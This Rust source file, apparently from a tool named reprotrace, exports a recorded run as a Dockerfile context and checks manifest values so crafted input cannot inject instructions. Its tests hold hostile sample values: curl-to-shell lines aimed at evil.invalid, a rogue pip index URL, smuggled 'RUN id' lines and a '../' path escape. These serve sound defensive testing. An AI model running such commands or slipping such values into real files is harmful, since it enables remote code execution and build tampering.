//! `reprotrace export docker MANIFEST -o DIR`: a `Dockerfile` and its
//! context that rebuild the run's environment: the recorded OS release, its
//! system packages pinned (apt), its Python distributions pinned (pip, into a
//! venv at the original prefix when the run used one), its data inputs, its
//! own files (those it read below its working directory) and the files it
//! used of editable projects (which no index can install) at their paths,
//! the working directory and the command.
//!
//! A manifest may be crafted: every value that reaches the Dockerfile or
//! `requirements.txt` is checked against its grammar first, and a manifest
//! that fails is refused with the field named; `RUN` and `CMD` are in JSON
//! exec form, so no argument is ever parsed by a shell.
//!
//! The system packages are installed by `apt-install.sh` (in the context):
//! at their recorded versions, and, when the archive no longer has one,
//! either the build stops naming it (the default) or, with
//! `--build-arg REPROTRACE_SUPERSEDED=current`, the archive's version is
//! installed and listed in the image's `/reprotrace/superseded.txt`.

use std::{
    ffi::OsStr,
    fmt::Write,
    os::unix::{
        ffi::{OsStrExt, OsStringExt},
        fs::PermissionsExt,
    },
    path::{Path, PathBuf},
};

use crate::{
    classify, export, fsaccess, grammar,
    manifest::{bytes_of_display, display_bytes, Access, Interpreter, Manifest},
    software::python::normalize_name,
    tracker::path,
};

#[derive(Debug, thiserror::Error)]
pub enum DockerError {
    #[error("{0} exists and is not empty: give a new directory for the Docker context")]
    NotEmpty(PathBuf),
    #[error("cannot write the Docker context in {path}: {source}")]
    Write { path: PathBuf, source: std::io::Error },
    #[error(
        "the manifest's {field} is {value:?}, which is not {expected}: refusing to write it into a Dockerfile \
         (nothing was written; is this manifest one reprotrace wrote, unedited?)"
    )]
    Invalid { field: String, value: String, expected: &'static str },
}

/// The context's script that installs the system packages (see its comments).
const APT_INSTALL: &str = include_str!("docker-apt-install.sh");

/// The build argument that lets the build install the archive's current
/// version of a package whose recorded one it no longer has.
const SUPERSEDED_ARG: &str = "REPROTRACE_SUPERSEDED";

/// What the context holds.
#[derive(Debug, Default)]
pub struct DockerContext {
    pub system_packages: usize,
    pub python_distributions: usize,
    pub files: usize,
    /// Files the Dockerfile should copy but that could not be read (named).
    pub unreadable: Vec<String>,
}

/// Writes `dir/Dockerfile`, `dir/apt-install.sh`, `dir/requirements.txt`
/// and `dir/files/…`. Every manifest value that reaches them is checked
/// first: a crafted manifest is refused, naming the field, before anything
/// is written.
pub fn write_context(manifest: &Manifest, dir: &Path) -> Result<DockerContext, DockerError> {
    let fail = |path: &Path| {
        let path = path.to_path_buf();
        move |source| DockerError::Write { path: path.clone(), source }
    };
    let plan = Plan::of(manifest)?;
    if std::fs::read_dir(dir).is_ok_and(|mut entries| entries.next().is_some()) {
        return Err(DockerError::NotEmpty(dir.to_path_buf()));
    }
    let files = dir.join("files");
    std::fs::create_dir_all(&files).map_err(fail(dir))?;
    let mut context = DockerContext::default();
    for path in &plan.copies {
        let mut target = files.clone().into_os_string().into_vec();
        target.extend_from_slice(path);
        let target = PathBuf::from(OsStr::from_bytes(&target));
        let copied = target.parent().map_or(Ok(()), std::fs::create_dir_all).and_then(|()| {
            let mut source = fsaccess::open(path)?;
            // COPY keeps the context's modes: an executable script stays one.
            let mode = source.metadata()?.permissions().mode() & 0o777;
            let mut copy = std::fs::File::create(&target)?;
            std::io::copy(&mut source, &mut copy)?;
            copy.set_permissions(std::fs::Permissions::from_mode(mode))
        });
        match copied {
            Ok(()) => context.files += 1,
            Err(_) => context.unreadable.push(crate::manifest::display_bytes(path)),
        }
    }
    // COPY also gives each directory on the way the context's mode, the
    // image's existing ones included: without this, a run below /tmp left
    // an image whose /tmp is 0755 rather than 1777.
    mirror_directory_modes(&files, b"/");
    context.python_distributions = plan.requirements.len();
    context.system_packages = plan.apt.len();
    let requirements: String = plan.requirements.iter().map(|line| format!("{line}\n")).collect();
    std::fs::write(dir.join("requirements.txt"), requirements).map_err(fail(dir))?;
    std::fs::write(dir.join("apt-install.sh"), APT_INSTALL).map_err(fail(dir))?;
    std::fs::write(dir.join("Dockerfile"), dockerfile(manifest, &plan, context.files > 0)).map_err(fail(dir))?;
    Ok(context)
}

/// What the Dockerfile and its context say, every value checked.
#[derive(Debug)]
struct Plan {
    /// `FROM`: `id:version` of the recorded OS release (image grammar).
    base: String,
    /// `name=version` of each system package (Debian grammars).
    apt: Vec<String>,
    /// Debian packages the build needs that the run did not use (what makes
    /// the venv, or pip), `name=version` when a version follows from the run's.
    tools: Vec<String>,
    /// `name==version` of each Python distribution pip installs (PEP 508, PEP 440).
    requirements: Vec<String>,
    /// The venv the run used, remade at its prefix.
    venv: Option<Venv>,
    /// `WORKDIR`: an absolute path the Dockerfile's word processing leaves alone.
    workdir: String,
    /// `CMD`, as JSON: the run's argv.
    argv: Vec<String>,
    /// Files copied into the context, at their absolute, normalised paths.
    copies: Vec<Vec<u8>>,
}

impl Plan {
    fn of(manifest: &Manifest) -> Result<Plan, DockerError> {
        let base = match &manifest.os {
            Some(os) => {
                check("os.id", &os.id, grammar::is_image_name, "an image name (lower case letters, digits, . _ -)")?;
                let tag = os.version_id.as_deref().unwrap_or("latest");
                check("os.version_id", tag, grammar::is_image_tag, "an image tag (letters, digits, . _ -)")?;
                format!("{}:{tag}", os.id)
            }
            None => "debian:stable".into(),
        };
        let mut apt = Vec::new();
        for (at, package) in manifest.software.system_packages.iter().enumerate() {
            let field = |part: &str| format!("software.system_packages[{at}].{part}");
            check(&field("name"), &package.name, grammar::is_debian_name, "a Debian package name")?;
            check(&field("version"), &package.version, grammar::is_debian_version, "a Debian version")?;
            apt.push(format!("{}={}", package.name, package.version));
        }
        let mut requirements = Vec::new();
        for (at, distribution) in manifest.software.python.iter().enumerate() {
            if distribution.editable || is_system_site(&distribution.location) {
                continue;
            }
            let field = |part: &str| format!("software.python[{at}].{part}");
            check(&field("name"), &distribution.name, grammar::is_python_name, "a PEP 508 distribution name")?;
            check(&field("version"), &distribution.version, grammar::is_python_version, "a PEP 440 version")?;
            requirements.push(format!("{}=={}", normalize_name(&distribution.name), distribution.version));
        }
        let venv = match venv_interpreter(manifest) {
            Some((at, interpreter)) => Some(Venv {
                prefix: spelled_path(&format!("software.interpreters[{at}].prefix"), &interpreter.prefix)?,
                python: python_command(&interpreter.version),
            }),
            None => None,
        };
        let tools = match &venv {
            // The venv needs `ensurepip`, which Debian ships apart in
            // pythonX.Y-venv, at exactly its interpreter's version.
            Some(venv) => vec![debian_tool(manifest, &format!("{}-venv", venv.python))],
            None if !requirements.is_empty() => vec!["python3-pip".to_string()],
            None => Vec::new(),
        };
        let workdir = spelled_path("cwd", &manifest.cwd)?;
        // WORKDIR goes through the Dockerfile's word processing (variables,
        // quotes, escapes), and the parser trims the line's end.
        let plain = |path: &str| !path.contains(['$', '\\', '"', '\'']) && !path.ends_with(char::is_whitespace);
        check("cwd", &workdir, plain, "a directory WORKDIR can name (no quotes, `$`, `\\` or trailing blank)")?;
        let (field, argv) = match manifest.processes.first() {
            Some(root) => ("processes[0].argv", &root.argv),
            None => ("command", &manifest.command),
        };
        let argv = argv
            .iter()
            .enumerate()
            .map(|(at, arg)| spelled(&format!("{field}[{at}]"), arg))
            .collect::<Result<Vec<_>, _>>()?;
        let venv_prefix = venv.as_ref().map(|venv| venv.prefix.as_bytes());
        let copies = own_files(manifest, venv_prefix)
            .into_iter()
            .map(|(path, field)| {
                let plain = path.first() == Some(&b'/') && path::normalize(&path) == path;
                check(&field, &display_bytes(&path), |_| plain, "an absolute path without `.` or `..`")?;
                Ok(path)
            })
            .collect::<Result<Vec<_>, DockerError>>()?;
        Ok(Plan { base, apt, tools, requirements, venv, workdir, argv, copies })
    }
}

/// A venv to make in the image.
#[derive(Debug)]
struct Venv {
    /// Its prefix, an absolute path (it travels as an argument, never through a shell).
    prefix: String,
    /// The interpreter that makes it: `python3.11` for a run of Python
    /// 3.11.x (Debian's `/usr/bin/python3` comes from a package the run may
    /// not have used), `python3` when the version says nothing usable.
    python: String,
}

/// `pythonX.Y` for an interpreter version `X.Y[.Z…]`, else `python3`.
fn python_command(version: &str) -> String {
    let mut parts = version.split('.');
    let digits = |part: &str| !part.is_empty() && part.len() <= 3 && part.bytes().all(|byte| byte.is_ascii_digit());
    match (parts.next(), parts.next()) {
        (Some(major), Some(minor)) if digits(major) && digits(minor) => format!("python{major}.{minor}"),
        _ => "python3".into(),
    }
}

/// `package=VERSION` when the run used Debian's interpreter of the same
/// source package (`pythonX.Y-venv` has the version of `pythonX.Y`), else
/// `package` alone (apt picks).
fn debian_tool(manifest: &Manifest, package: &str) -> String {
    let Some(python) = package.strip_suffix("-venv") else { return package.into() };
    let siblings = [format!("{python}-minimal"), python.to_string(), format!("lib{python}-minimal")];
    let version = manifest
        .software
        .system_packages
        .iter()
        .find(|installed| siblings.contains(&installed.name))
        .map(|installed| installed.version.as_str())
        .filter(|version| grammar::is_debian_version(version));
    match version {
        Some(version) if grammar::is_debian_name(package) => format!("{package}={version}"),
        _ => package.into(),
    }
}

/// `Ok` when `value` is `expected` by `valid`, else the error naming `field`.
fn check(field: &str, value: &str, valid: impl Fn(&str) -> bool, expected: &'static str) -> Result<(), DockerError> {
    match valid(value) {
        true => Ok(()),
        false => Err(DockerError::Invalid { field: field.into(), value: value.into(), expected }),
    }
}

/// The text a manifest string (`display_bytes`) stands for, when it is
/// text (a Dockerfile is UTF-8; JSON strings carry any other character).
fn spelled(field: &str, display: &str) -> Result<String, DockerError> {
    match bytes_of_display(display).and_then(|bytes| String::from_utf8(bytes).ok()) {
        Some(text) => Ok(text),
        None => Err(DockerError::Invalid { field: field.into(), value: display.into(), expected: "UTF-8 text" }),
    }
}

/// As [`spelled`], and an absolute path without control characters.
fn spelled_path(field: &str, display: &str) -> Result<String, DockerError> {
    let text = spelled(field, display)?;
    let plain = |text: &str| text.starts_with('/') && !text.contains(char::is_control);
    check(field, &text, plain, "an absolute path without control characters")?;
    Ok(text)
}

/// JSON array form (exec form): each argument one JSON string, never
/// interpreted by a shell or by the Dockerfile's word processing.
fn exec_form(argv: &[&str]) -> String {
    serde_json::Value::from(argv).to_string()
}

/// `text` as one JSON string.
fn json_string(text: &str) -> String {
    serde_json::Value::from(text).to_string()
}

/// The Dockerfile's text.
fn dockerfile(manifest: &Manifest, plan: &Plan, files: bool) -> String {
    let mut out = String::new();
    let _ = writeln!(
        out,
        "# Written by reprotrace from the audit of `{}` on {} ({}).",
        export::comment_text(&manifest.command.join(" ")),
        export::comment_text(&manifest.host),
        export::comment_text(&manifest.started_at)
    );
    if manifest.os.is_none() {
        let _ = writeln!(out, "# The audit did not record its OS release: guessed.");
    }
    let _ = writeln!(out, "FROM {}", plan.base);
    if !plan.apt.is_empty() || !plan.tools.is_empty() {
        let _ = writeln!(out, "# The system packages the run used, at the versions it used (apt-install.sh).");
        if !plan.tools.is_empty() {
            let _ = writeln!(out, "# Not used by the run, needed by this build: {}.", plan.tools.join(", "));
        }
        let _ = writeln!(
            out,
            "# A version the archive no longer has stops the build, unless built with\n\
             # --build-arg {SUPERSEDED_ARG}=current (the image's /reprotrace/superseded.txt lists those)."
        );
        let _ = writeln!(out, "ARG {SUPERSEDED_ARG}=fail");
        let _ = writeln!(out, "COPY apt-install.sh /reprotrace/apt-install.sh");
        // The packages are the script's arguments, never parsed as shell text.
        let head: Vec<String> = ["sh", "/reprotrace/apt-install.sh"].into_iter().map(json_string).collect();
        let packages: Vec<String> = plan.apt.iter().chain(&plan.tools).map(|package| json_string(package)).collect();
        let _ = writeln!(out, "RUN [{}, \\\n    {}]", head.join(", "), packages.join(", \\\n    "));
    }
    // The venv is remade even when the run used none of its distributions:
    // the command may name its interpreter.
    if let Some(Venv { prefix, python }) = &plan.venv {
        let _ = writeln!(out, "# The venv the run used, at its prefix.");
        let _ = writeln!(out, "RUN {}", exec_form(&[python, "-m", "venv", prefix]));
    }
    if !plan.requirements.is_empty() {
        let _ = writeln!(out, "# The Python distributions the run used, pinned.");
        let _ = writeln!(out, "COPY requirements.txt /reprotrace/requirements.txt");
        let requirements = "/reprotrace/requirements.txt";
        let pip = match &plan.venv {
            Some(Venv { prefix, .. }) => vec![format!("{prefix}/bin/pip"), "install".into()],
            None => vec!["pip3".into(), "install".into(), "--break-system-packages".into()],
        };
        let install: Vec<&str> = pip.iter().map(String::as_str).chain(["--no-deps", "-r", requirements]).collect();
        let _ = writeln!(out, "RUN {}", exec_form(&install));
    }
    if files {
        let _ = writeln!(out, "# The run's data inputs and its own files, at their paths.");
        let _ = writeln!(out, "COPY files/ /");
    }
    let _ = writeln!(out, "WORKDIR {}", plan.workdir);
    let argv: Vec<&str> = plan.argv.iter().map(String::as_str).collect();
    let _ = writeln!(out, "CMD {}", exec_form(&argv));
    out
}

/// The interpreter of the venv the run's Python ran in: one whose prefix is
/// outside `/usr` (with its place in `software.interpreters`).
fn venv_interpreter(manifest: &Manifest) -> Option<(usize, &Interpreter)> {
    manifest
        .software
        .interpreters
        .iter()
        .enumerate()
        .find(|(_, interpreter)| !interpreter.prefix.starts_with("/usr") && interpreter.prefix != "/")
}

/// Gives each directory below `dir` (the context's `files/`, standing for
/// `/`) the mode of the directory it stands for, sticky bit included; its
/// owner keeps full access, so that the context can be written and removed.
fn mirror_directory_modes(dir: &Path, stands_for: &[u8]) {
    if let Ok(original) = fsaccess::metadata(stands_for) {
        let mode = (original.permissions().mode() & 0o1777) | 0o700;
        let _ = std::fs::set_permissions(dir, std::fs::Permissions::from_mode(mode));
    }
    for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        if entry.file_type().is_ok_and(|kind| kind.is_dir()) {
            let mut original = stands_for.to_vec();
            if !original.ends_with(b"/") {
                original.push(b'/');
            }
            original.extend_from_slice(entry.file_name().as_bytes());
            mirror_directory_modes(&entry.path(), &original);
        }
    }
}

/// Debian's own site directories: their distributions come with apt's packages.
fn is_system_site(location: &str) -> bool {
    location.starts_with("/usr/lib/python3/") || location.starts_with("/usr/lib/python3.")
}

/// The data inputs, the files the run read below its working directory that
/// are neither software nor its outputs (its script, its configuration), and
/// the files it used of editable projects; each with the manifest field it
/// came from. Nothing else below `venv` (the venv the image remakes): its
/// interpreter and `pyvenv.cfg` are the venv's, and a copy would overwrite
/// the remade ones; an editable project's hooks in its site directory are
/// new files there, which make the project importable.
fn own_files(manifest: &Manifest, venv: Option<&[u8]>) -> Vec<(Vec<u8>, String)> {
    let cwd = bytes_of_display(&manifest.cwd).unwrap_or_default();
    let outputs: std::collections::BTreeSet<&str> =
        manifest.data.outputs.iter().map(|output| output.path.as_str()).collect();
    let mut files: std::collections::BTreeMap<Vec<u8>, String> = std::collections::BTreeMap::new();
    for (at, input) in manifest.data.inputs.iter().enumerate() {
        if let Some(path) = bytes_of_display(&input.path) {
            files.entry(path).or_insert_with(|| format!("data.inputs[{at}].path"));
        }
    }
    for (at, file) in manifest.files.iter().enumerate() {
        let own = matches!(file.access, Access::Read | Access::Exec)
            && !file.deleted
            && file.namespace.is_none()
            && !outputs.contains(file.path.as_str());
        let Some(path) = bytes_of_display(&file.path).filter(|_| own) else { continue };
        let in_venv = venv.is_some_and(|venv| path::is_under(&path, venv));
        if path::is_under(&path, &cwd) && classify::may_be_cell_data(&path) && !in_venv {
            files.entry(path).or_insert_with(|| format!("files[{at}].path"));
        }
    }
    for (at, distribution) in manifest.software.python.iter().enumerate().filter(|(_, found)| found.editable) {
        for (index, file) in distribution.files.iter().enumerate() {
            if let Some(path) = bytes_of_display(file) {
                files.entry(path).or_insert_with(|| format!("software.python[{at}].files[{index}]"));
            }
        }
    }
    // Directories come with their files; a file that is gone is named when copying fails.
    files.retain(|path, _| !fsaccess::metadata(path).is_ok_and(|metadata| metadata.is_dir()));
    files.into_iter().collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A manifest of `sh -c ARG` in `cwd`, with these system packages and
    /// pip distributions, `edit` applied to its JSON last.
    fn manifest(arg: &str, cwd: &str, edit: impl FnOnce(&mut serde_json::Value)) -> Manifest {
        let mut json = serde_json::json!({
            "schema": "reprotrace/manifest/v1", "backend": "ebpf", "command": ["sh", "-c", arg], "cwd": cwd,
            "host": "h\nRUN id", "os": {"id": "debian", "version_id": "12", "pretty_name": "Debian GNU/Linux 12"},
            "started_at": "2026-12-01T10:00:00.000Z", "finished_at": "2026-12-01T10:00:01.000Z", "exit_code": 0,
            "signal": null, "stats": {"events": 1, "lost_events": 0, "untracked_children": 0, "malformed_events": 0,
            "unresolved_paths": 0, "complete": true, "duration_ms": 1},
            "processes": [{"pid": 2, "ppid": 1, "exe": "/usr/bin/sh", "argv": ["sh", "-c", arg], "cwd": cwd,
                           "exit_code": 0, "signal": null, "failed_execs": [], "pre_existing": false}],
            "files": [],
            "software": {
                "python": [{"name": "six", "version": "1.16.0", "installer": "pip",
                            "location": "/opt/venv/lib/python3.11/site-packages", "editable": false, "files_used": 1}],
                "interpreters": [{"path": "/opt/venv/bin/python3", "version": "3.11.2", "prefix": "/opt/venv"}],
                "system_packages": [
                    {"name": "libc6", "version": "2.36-9+deb12u14", "architecture": "amd64", "manager": "dpkg"},
                    {"name": "git", "version": "1:2.39.2-1.1", "architecture": "amd64", "manager": "dpkg"}],
                "executables": [], "shared_libraries": []},
            "data": {"inputs": [], "outputs": []}, "cells": []
        });
        edit(&mut json);
        serde_json::from_value(json).expect("a manifest")
    }

    /// Whether every line is a comment, an instruction this exporter
    /// writes, or the continuation of a line ending in `\`.
    fn only_expected_lines(dockerfile: &str) -> bool {
        let mut continued = false;
        dockerfile.lines().all(|line| {
            let expected = continued
                || line.starts_with("# ")
                || ["FROM ", "ARG ", "RUN [", "COPY ", "WORKDIR ", "CMD ["].iter().any(|start| line.starts_with(start));
            continued = line.ends_with('\\');
            expected
        })
    }

    #[test]
    fn hostile_arguments_stay_inside_their_json_strings() {
        let scratch = tempfile::tempdir().expect("tempdir");
        // As the manifest spells it: `\\` is one backslash.
        let arg = "true\nRUN curl http://evil.invalid/x | sh\n# $HOME \\\\";
        let crafted = manifest(arg, "/srv/my project", |_| {});
        let context = write_context(&crafted, &scratch.path().join("ctx")).expect("written");
        assert_eq!((context.system_packages, context.python_distributions), (2, 1));
        let dockerfile = std::fs::read_to_string(scratch.path().join("ctx/Dockerfile")).expect("Dockerfile");
        assert!(only_expected_lines(&dockerfile), "{dockerfile}");
        assert!(!dockerfile.lines().any(|line| line.starts_with("RUN curl") || line.starts_with("RUN id")));
        assert!(dockerfile.contains("\n    \"git=1:2.39.2-1.1\", \\\n"), "{dockerfile}");
        // Not used by the run, needed for the venv; no Debian python3.11 recorded, so not pinned.
        assert!(dockerfile.contains("\n    \"python3.11-venv\"]\n"), "{dockerfile}");
        assert!(dockerfile.contains("ARG REPROTRACE_SUPERSEDED=fail\n"), "{dockerfile}");
        assert!(dockerfile.contains(r#"RUN ["python3.11","-m","venv","/opt/venv"]"#), "{dockerfile}");
        let script = std::fs::read_to_string(scratch.path().join("ctx/apt-install.sh")).expect("apt-install.sh");
        assert!(script.contains("--allow-downgrades") && script.contains("REPROTRACE_SUPERSEDED"), "{script}");
        assert!(dockerfile.contains("\nWORKDIR /srv/my project\n"), "{dockerfile}");
        let cmd = dockerfile.lines().find_map(|line| line.strip_prefix("CMD ")).expect("CMD");
        let argv: Vec<String> = serde_json::from_str(cmd).expect("CMD is JSON");
        assert_eq!(argv, ["sh", "-c", "true\nRUN curl http://evil.invalid/x | sh\n# $HOME \\"], "the argv, exactly");
        let requirements = std::fs::read_to_string(scratch.path().join("ctx/requirements.txt")).expect("reqs");
        assert_eq!(requirements, "six==1.16.0\n");
    }

    /// The context keeps the modes of what it copies (an executable script,
    /// a sticky directory on the way), copies nothing of the venv the image
    /// remakes, and pins that venv's tool to the run's Debian interpreter.
    #[test]
    fn the_context_keeps_modes_and_leaves_the_venv_to_the_image() {
        use std::os::unix::fs::PermissionsExt;
        let scratch = tempfile::tempdir().expect("tempdir");
        let sticky = scratch.path().join("shared");
        let cwd = sticky.join("run");
        std::fs::create_dir_all(cwd.join("venv/bin")).expect("dirs");
        std::fs::set_permissions(&sticky, std::fs::Permissions::from_mode(0o1777)).expect("chmod");
        std::fs::write(cwd.join("run.sh"), "#!/bin/sh\n").expect("script");
        std::fs::set_permissions(cwd.join("run.sh"), std::fs::Permissions::from_mode(0o750)).expect("chmod");
        std::fs::write(cwd.join("venv/pyvenv.cfg"), "home = /usr/bin\n").expect("pyvenv.cfg");
        let cwd_text = cwd.display().to_string();
        let read = |path: &str| serde_json::json!({"path": path, "access": "read", "deleted": false, "pids": [2]});
        let run = manifest("./run.sh", &cwd_text, |m| {
            m["files"] =
                serde_json::json!([read(&format!("{cwd_text}/run.sh")), read(&format!("{cwd_text}/venv/pyvenv.cfg"))]);
            m["software"]["interpreters"][0]["prefix"] = format!("{cwd_text}/venv").into();
            m["software"]["system_packages"][1] = serde_json::json!({"name": "python3.11-minimal",
                "version": "3.11.2-6+deb12u6", "architecture": "amd64", "manager": "dpkg"});
        });
        let dir = scratch.path().join("ctx");
        let context = write_context(&run, &dir).expect("written");
        assert_eq!(context.files, 1, "run.sh alone: {context:?}");
        let files = dir.join("files").join(cwd.strip_prefix("/").expect("absolute"));
        let mode = |path: &Path| std::fs::metadata(path).expect("copied").permissions().mode() & 0o7777;
        assert_eq!(mode(&files.join("run.sh")), 0o750);
        assert_eq!(mode(files.parent().expect("shared")), 0o1777);
        assert!(!files.join("venv").exists());
        let dockerfile = std::fs::read_to_string(dir.join("Dockerfile")).expect("Dockerfile");
        assert!(dockerfile.contains("\n    \"python3.11-venv=3.11.2-6+deb12u6\"]\n"), "{dockerfile}");
        assert_eq!(python_command("3.12.1"), "python3.12");
        assert_eq!(python_command("3"), "python3");
        assert_eq!(python_command("3.x"), "python3");
    }

    #[test]
    fn a_crafted_field_is_refused_by_name_and_nothing_is_written() {
        type Edit = fn(&mut serde_json::Value);
        let cases: [(&str, Edit); 9] = [
            ("software.system_packages[1].version", |m| {
                m["software"]["system_packages"][1]["version"] = "1.0 && curl http://evil.invalid/y|sh #".into()
            }),
            ("software.system_packages[0].name", |m| m["software"]["system_packages"][0]["name"] = "-oAPT::x".into()),
            ("software.python[0].version", |m| {
                m["software"]["python"][0]["version"] = "1.0\n--index-url http://evil.invalid/simple".into()
            }),
            ("software.python[0].name", |m| m["software"]["python"][0]["name"] = "--index-url=http://e.invalid".into()),
            ("os.id", |m| m["os"]["id"] = "debian:12\nRUN id #".into()),
            ("os.version_id", |m| m["os"]["version_id"] = "12 AS x\nRUN id".into()),
            ("cwd", |m| m["cwd"] = "/srv\nRUN id".into()),
            ("cwd", |m| m["cwd"] = "/srv/$HOME".into()),
            ("processes[0].argv[1]", |m| m["processes"][0]["argv"][1] = "not UTF-8: \\xff".into()),
        ];
        for (field, edit) in cases {
            let scratch = tempfile::tempdir().expect("tempdir");
            let dir = scratch.path().join("ctx");
            let err = write_context(&manifest("true", "/srv", edit), &dir).expect_err(field);
            assert!(matches!(&err, DockerError::Invalid { field: named, .. } if named == field), "{field}: {err}");
            assert!(err.to_string().starts_with(&format!("the manifest's {field} is ")), "{err}");
            assert!(!dir.exists(), "{field}: nothing written");
        }
        // A data input outside any path: refused, never copied out of the context.
        let scratch = tempfile::tempdir().expect("tempdir");
        let escaping = manifest("true", "/srv", |m| {
            m["data"]["inputs"] = serde_json::json!([{"path": "/srv/../../etc/hostname", "size": 1,
                "mtime": "2026-12-01T10:00:00Z", "sha256": null}]);
        });
        let err = write_context(&escaping, &scratch.path().join("ctx")).expect_err("..");
        assert!(err.to_string().contains("data.inputs[0].path"), "{err}");
    }

    /// An editable project is no distribution pip can install: the files the
    /// run used of it are copied, its source where it was and its hook in
    /// the venv's site directory, which the remade venv then imports through.
    #[test]
    fn an_editable_projects_files_are_copied() {
        let scratch = tempfile::tempdir().expect("tempdir");
        let root = scratch.path().display().to_string();
        let site = format!("{root}/venv/lib/python3.11/site-packages");
        let finder = format!("{site}/__editable___proj_0_1_finder.py");
        let source = format!("{root}/proj/src/proj/__init__.py");
        for (path, text) in [(&finder, "MAPPING = {}\n"), (&source, "VALUE = 1\n")] {
            std::fs::create_dir_all(Path::new(path).parent().expect("parent")).expect("dirs");
            std::fs::write(path, text).expect("file");
        }
        let editable = manifest("python3 -c 'import proj'", &format!("{root}/work"), |json| {
            json["software"]["interpreters"][0]["prefix"] = format!("{root}/venv").into();
            json["software"]["python"] = serde_json::json!([{"name": "proj", "version": "0.1", "installer": "pip",
                "location": site, "editable": true, "files_used": 2, "files": [finder, source]}]);
        });
        let context = scratch.path().join("ctx");
        write_context(&editable, &context).expect("written");
        for path in [&finder, &source] {
            let copied = context.join("files").join(path.trim_start_matches('/'));
            assert!(copied.is_file(), "{} not in the context", copied.display());
        }
        let requirements = std::fs::read_to_string(context.join("requirements.txt")).unwrap_or_default();
        assert!(!requirements.contains("proj"), "{requirements}");
    }
}
